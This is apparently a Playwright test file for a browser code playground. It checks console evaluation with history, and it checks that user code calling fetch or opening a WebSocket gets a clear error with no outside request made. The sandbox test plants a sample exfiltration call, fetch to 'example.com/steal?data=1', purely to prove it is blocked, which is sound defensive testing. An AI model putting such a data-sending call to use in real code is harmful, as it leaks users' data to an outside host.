/**
 * The console evaluates in the shell; user code cannot reach the network: `fetch` throws a clear
 * error in the worker, and no request leaves the page's origin.
 */
import { test, expect } from "@playwright/test";
import { clearStorage, openApp, openTypeScriptSeed, runSeed, setFile, watchOrigin } from "./fixtures";

test("a console eval prints its result as a shell log line, with history on ArrowUp", async ({ page }) => {
  await openApp(page);
  await clearStorage(page);
  await openApp(page);
  await openTypeScriptSeed(page);
  await runSeed(page);
  const input = page.getByTestId("console-input");
  await input.fill("1 + 41");
  await input.press("Enter");
  await expect(page.getByTestId("console-result").filter({ hasText: /^42$/ })).toHaveCount(1);
  await input.fill('typeof sys.get_state("counter")');
  await input.press("Enter");
  await expect(page.getByTestId("console-result").filter({ hasText: '"object"' })).toHaveCount(1);
  await input.press("ArrowUp");
  await expect(input).toHaveValue('typeof sys.get_state("counter")');
  await input.press("ArrowUp");
  await expect(input).toHaveValue("1 + 41");
});

test("user code that calls fetch gets a clear error and nothing leaves the page", async ({ page, context }) => {
  const outside = watchOrigin(context);
  await openApp(page);
  await clearStorage(page);
  await openApp(page);
  await openTypeScriptSeed(page);
  await setFile(page, "Net.ts", `import { log } from "otp";

export async function go() {
  try {
    await fetch("https://example.com/steal?data=1");
    log("fetch went through");
  } catch (e) {
    log("caught: " + (e as Error).message);
  }
}

export function socket() {
  try {
    new WebSocket("wss://example.com/");
  } catch (e) {
    log("caught: " + (e as Error).message);
  }
}
`);
  await runSeed(page);
  const input = page.getByTestId("console-input");
  await input.fill("Net.go()");
  await input.press("Enter");
  await expect(page.locator("[data-testid=log-line]").filter({ hasText: "caught: fetch is not available in the playground" })).toHaveCount(1);
  await input.fill("Net.socket()");
  await input.press("Enter");
  await expect(page.locator("[data-testid=log-line]").filter({ hasText: "caught: WebSocket is not available" })).toHaveCount(1);
  await expect(page.locator("[data-testid=log-line]").filter({ hasText: "fetch went through" })).toHaveCount(0);
  expect(outside).toEqual([]);
  await clearStorage(page);
});
